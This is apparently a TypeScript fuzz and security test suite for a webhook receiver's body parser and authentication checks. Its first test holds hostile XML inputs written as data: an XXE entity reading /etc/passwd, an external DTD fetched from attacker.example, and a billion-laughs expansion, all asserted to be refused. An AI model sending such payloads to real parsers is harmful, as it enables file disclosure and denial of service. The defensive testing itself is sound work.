/**
 * Security properties of the receivers' body parser and authentication, including fuzzing
 * with fast-check: every input either parses or fails with a readable Error, never a crash,
 * and no request without the right secret is ever let through.
 */
import assert from 'node:assert/strict';
import { createHmac } from 'node:crypto';
import fc from 'fast-check';
import { formatOf, MAX_NESTING, parseBody, type BodyFormat } from '../../nodes/core/receiver';
import { checkReceiverAuth, receiverAuthProblem, type ReceiverAuthSettings, type ReceiverSecrets } from '../../nodes/core/receiver-auth';

const FORMATS: BodyFormat[] = ['json', 'xml', 'form'];
const basic = (user: string, pass: string) => `Basic ${Buffer.from(`${user}:${pass}`).toString('base64')}`;

/** Parses, or returns the error; anything that is not an Error with a message fails the test. */
function outcome(format: BodyFormat, raw: Buffer): { ok: true; value: unknown } | { ok: false; message: string } {
  try {
    return { ok: true, value: parseBody(format, raw) };
  } catch (error) {
    assert.ok(error instanceof Error, `parseBody threw a non-Error: ${String(error)}`);
    assert.ok(error.message.length > 0 && error.message.length < 300, `unclear message: ${error.message}`);
    return { ok: false, message: error.message };
  }
}

describe('security: receiver body parser', () => {
  it('refuses XXE, external entities and entity expansion (billion laughs) before parsing', () => {
    const attacks = [
      '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>',
      '<?xml version="1.0"?><!DOCTYPE d SYSTEM "http://attacker.example/evil.dtd"><d/>',
      `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('')}]><lolz>&lol9;</lolz>`,
      '<!doctype d [<!entity x "y">]><d>&x;</d>',
      '<d><!ENTITY x "y"></d>',
    ];
    for (const xml of attacks) {
      const result = outcome('xml', Buffer.from(xml));
      assert.equal(result.ok, false, xml);
      assert.match((result as { message: string }).message, /DOCTYPE or ENTITY/);
    }
  });

  it('leaves undeclared entity references as text instead of resolving them', () => {
    const result = outcome('xml', Buffer.from('<d><name>&amp;&lt;&xxe;</name></d>'));
    if (result.ok) assert.equal(JSON.stringify(result.value).includes('root:'), false);
  });

  it('answers malformed JSON with a reason that does not quote the body', () => {
    const result = outcome('json', Buffer.from('{"name": Amina Yusuf, "hiv": "positive"}'));
    assert.equal(result.ok, false);
    const message = (result as { message: string }).message;
    assert.match(message, /^malformed JSON: /);
    for (const fragment of ['Amina', 'Yusuf', 'positive']) assert.equal(message.includes(fragment), false, message);
  });

  it('fuzz: a malformed body never has its content quoted in the error', () => {
    fc.assert(fc.property(fc.string({ minLength: 6, maxLength: 12, unit: fc.constantFrom(...'ABCDEFGHJKLMNPQRSTUVWXYZ') }), fc.constantFrom('{"name": X}', '{"name": "X"', '["X",]', '{"name": "X" "age": 3}', 'X', '{"X"}'), (secret, template) => {
      const result = outcome('json', Buffer.from(template.replace('X', secret)));
      assert.equal(result.ok, false);
      assert.equal((result as { message: string }).message.includes(secret), false, (result as { message: string }).message);
    }), { numRuns: 300 });
  });

  it('refuses deeply nested JSON and XML (10,000 levels) with a clear error instead of overflowing the stack', () => {
    const deepJson = outcome('json', Buffer.from(`${'['.repeat(10_000)}${']'.repeat(10_000)}`));
    assert.deepEqual(deepJson, { ok: false, message: `body is nested more than ${MAX_NESTING} levels deep` });
    const deepObject = outcome('json', Buffer.from(`${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`));
    assert.equal(deepObject.ok, false);
    const deepXml = outcome('xml', Buffer.from(`${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}`));
    assert.equal(deepXml.ok, false);
    assert.match((deepXml as { message: string }).message, /malformed XML|nested/);
    // Normal nesting still parses.
    assert.equal(outcome('json', Buffer.from(`${'['.repeat(50)}1${']'.repeat(50)}`)).ok, true);
  });

  it('refuses broken UTF-8', () => {
    for (const format of FORMATS) {
      const result = outcome(format, Buffer.concat([Buffer.from('{"a":"'), Buffer.from([0xc3, 0x28, 0xff]), Buffer.from('"}')]));
      assert.deepEqual(result, { ok: false, message: 'body is not valid UTF-8' });
    }
  });

  it('accepts only the known content types', () => {
    assert.equal(formatOf('application/json; charset=utf-8'), 'json');
    assert.equal(formatOf('application/fhir+json'), 'json');
    assert.equal(formatOf('text/xml'), 'xml');
    for (const type of ['', 'text/plain', 'text/html', 'multipart/form-data; boundary=x', 'application/javascript', 'application/jsonx']) {
      assert.equal(formatOf(type), undefined, type);
    }
  });

  it('fuzz: any bytes in any format parse or fail with a clear Error', function () {
    this.timeout(30_000);
    const bytes = fc.oneof(
      fc.uint8Array({ maxLength: 2_000 }).map((array) => Buffer.from(array)),
      fc.string({ unit: 'binary', maxLength: 2_000 }).map((text) => Buffer.from(text)),
      fc.json().map((text) => Buffer.from(text)),
      fc.jsonValue().map((value) => Buffer.from(JSON.stringify(value) ?? 'null')),
    );
    fc.assert(fc.property(fc.constantFrom(...FORMATS), bytes, (format, raw) => {
      outcome(format, raw);
    }), { numRuns: 1_500 });
  });

  it('fuzz: random nesting depth of arrays and objects never overflows', () => {
    const nested = (depth: number, opener: string): ReturnType<typeof outcome> => {
      const closer = opener === '[' ? ']' : '}';
      return outcome('json', Buffer.from(`${opener.repeat(depth)}${opener === '[' ? '' : '0'}${closer.repeat(depth)}`));
    };
    // The limit itself is allowed: "more than MAX_NESTING levels" is what is refused.
    for (const opener of ['[', '{"k":']) {
      assert.equal(nested(MAX_NESTING, opener).ok, true);
      assert.equal(nested(MAX_NESTING + 1, opener).ok, false);
    }
    fc.assert(fc.property(fc.integer({ min: 1, max: 20_000 }), fc.constantFrom('[', '{"k":'), (depth, opener) => {
      assert.equal(nested(depth, opener).ok, depth <= MAX_NESTING);
    }), { numRuns: 200 });
  });

  it('fuzz: XML generated from random trees round-trips or fails clearly, never resolves entities', () => {
    const name = fc.stringMatching(/^[a-z][a-z0-9_]{0,8}$/);
    const tree: fc.Arbitrary<string> = fc.letrec<{ node: string }>((tie) => ({
      node: fc.oneof(
        { depthSize: 'small' },
        fc.string({ maxLength: 40 }).map((text) => text.replace(/[<&]/g, ' ')),
        fc.tuple(name, fc.array(tie('node'), { maxLength: 4 })).map(([tag, children]) => `<${tag}>${children.join('')}</${tag}>`),
      ),
    })).node;
    fc.assert(fc.property(name, tree, (root, body) => {
      outcome('xml', Buffer.from(`<${root}>${body}</${root}>`));
    }), { numRuns: 500 });
  });
});

describe('security: receiver authentication', () => {
  const secrets: ReceiverSecrets = { username: 'rx-user', password: 'rx-Pa55-!', token: 'rx-token-0123456789' };
  const SETTINGS: ReceiverAuthSettings[] = [
    { mode: 'basic' },
    { mode: 'bearer' },
    { mode: 'header', headerName: 'X-Demo-Token' },
    { mode: 'query', queryParam: 'token' },
    { mode: 'hmac', signatureHeader: 'X-Hub-Signature-256', algorithm: 'sha256', encoding: 'hex', signaturePrefix: 'sha256=' },
  ];

  it('refuses every request when no authentication is configured, or the mode is unknown', () => {
    const request = { headers: { authorization: basic('rx-user', 'rx-Pa55-!') }, query: {}, rawBody: Buffer.alloc(0) };
    assert.equal(checkReceiverAuth(undefined, secrets, request).ok, false);
    assert.equal(checkReceiverAuth({ mode: 'open' as never }, secrets, request).ok, false);
    assert.equal(checkReceiverAuth({ mode: undefined as never }, secrets, request).ok, false);
  });

  it('refuses every request when the secret is missing from the credential store', () => {
    for (const settings of SETTINGS) {
      const result = checkReceiverAuth(settings, {}, { headers: { authorization: 'Bearer ', 'x-demo-token': '', 'x-hub-signature-256': 'sha256=' }, query: { token: '' }, rawBody: Buffer.alloc(0) });
      assert.equal(result.ok, false, settings.mode);
    }
  });

  it('lets anonymous requests through only in the explicit "none" mode', () => {
    assert.equal(checkReceiverAuth({ mode: 'none' }, {}, { headers: {}, query: {}, rawBody: Buffer.alloc(0) }).ok, true);
  });

  it('fuzz: random headers, queries and bodies never authenticate without the secret', function () {
    this.timeout(30_000);
    const value = fc.oneof(fc.string({ maxLength: 200 }), fc.string({ unit: 'binary', maxLength: 60 }), fc.constant(''), fc.base64String({ maxLength: 80 }).map((b) => `Basic ${b}`), fc.string().map((t) => `Bearer ${t}`));
    const headers = fc.dictionary(fc.constantFrom('authorization', 'x-demo-token', 'x-hub-signature-256', 'cookie', 'x-signature'), fc.oneof(value, fc.array(value, { maxLength: 3 })));
    const query = fc.dictionary(fc.constantFrom('token', 'key', 'api_key'), fc.oneof(value, fc.integer() as fc.Arbitrary<unknown>, fc.array(fc.string()) as fc.Arbitrary<unknown>));
    fc.assert(fc.property(fc.constantFrom(...SETTINGS), headers, query, fc.uint8Array({ maxLength: 500 }), (settings, h, q, body) => {
      const result = checkReceiverAuth(settings, secrets, { headers: h, query: q, rawBody: Buffer.from(body) });
      assert.equal(result.ok, false);
      assert.equal(result.ok === false && result.status, 401);
    }), { numRuns: 2_000 });
  });

  it('fuzz: the right secret always authenticates, one changed character never does', () => {
    fc.assert(fc.property(fc.uint8Array({ maxLength: 500 }), fc.string({ minLength: 1, maxLength: 40 }), fc.nat(), (bodyBytes, secret, position) => {
      const rawBody = Buffer.from(bodyBytes);
      // RFC 7617: a Basic user-id cannot contain a colon.
      const keyed: ReceiverSecrets = { username: `u-${secret.replace(/:/g, '')}`, password: `p-${secret}`, token: `t-${secret}` };
      const index = position % keyed.token!.length;
      const altered = `${keyed.token!.slice(0, index)}${keyed.token![index] === 'x' ? 'y' : 'x'}${keyed.token!.slice(index + 1)}`;
      const signature = (key: string) => `sha256=${createHmac('sha256', key).update(rawBody).digest('hex')}`;
      const hmac = SETTINGS[4];
      assert.equal(checkReceiverAuth(hmac, keyed, { headers: { 'x-hub-signature-256': signature(keyed.token!) }, query: {}, rawBody }).ok, true);
      assert.equal(checkReceiverAuth(hmac, keyed, { headers: { 'x-hub-signature-256': signature(altered) }, query: {}, rawBody }).ok, false);
      assert.equal(checkReceiverAuth({ mode: 'bearer' }, keyed, { headers: { authorization: `Bearer ${keyed.token}` }, query: {}, rawBody }).ok, keyed.token!.trim() === keyed.token);
      assert.equal(checkReceiverAuth({ mode: 'bearer' }, keyed, { headers: { authorization: `Bearer ${altered}` }, query: {}, rawBody }).ok, false);
      assert.equal(checkReceiverAuth({ mode: 'basic' }, keyed, { headers: { authorization: basic(keyed.username!, keyed.password!) }, query: {}, rawBody }).ok, true);
      assert.equal(checkReceiverAuth({ mode: 'basic' }, keyed, { headers: { authorization: basic(keyed.username!, `${keyed.password}x`) }, query: {}, rawBody }).ok, false);
      assert.equal(checkReceiverAuth({ mode: 'query', queryParam: 'token' }, keyed, { headers: {}, query: { token: altered }, rawBody }).ok, false);
    }), { numRuns: 1_000 });
  });

  it('rejects an HMAC signature computed over a different body', () => {
    const settings = SETTINGS[4];
    const signature = `sha256=${createHmac('sha256', secrets.token!).update('{"amount":1}').digest('hex')}`;
    assert.equal(checkReceiverAuth(settings, secrets, { headers: { 'x-hub-signature-256': signature }, query: {}, rawBody: Buffer.from('{"amount":1}') }).ok, true);
    assert.equal(checkReceiverAuth(settings, secrets, { headers: { 'x-hub-signature-256': signature }, query: {}, rawBody: Buffer.from('{"amount":1000}') }).ok, false);
  });
});

describe('security: receiver auth configuration problems', () => {
  it('names the configurations that refuse everyone or admit anyone', () => {
    assert.match(receiverAuthProblem({ mode: 'none' }, {}) ?? '', /anonymous access/);
    assert.match(receiverAuthProblem({ mode: 'basic' }, { username: 'u' }) ?? '', /every request is refused/);
    assert.match(receiverAuthProblem({ mode: 'hmac' }, {}) ?? '', /no signing key/);
    assert.match(receiverAuthProblem({ mode: 'bearer' }, {}) ?? '', /no token/);
    assert.match(receiverAuthProblem(undefined, {}) ?? '', /unknown authentication mode/);
    assert.equal(receiverAuthProblem({ mode: 'basic' }, { username: 'u', password: 'p' }), undefined);
    assert.equal(receiverAuthProblem({ mode: 'header', headerName: 'X-T' }, { token: 't' }), undefined);
  });
});
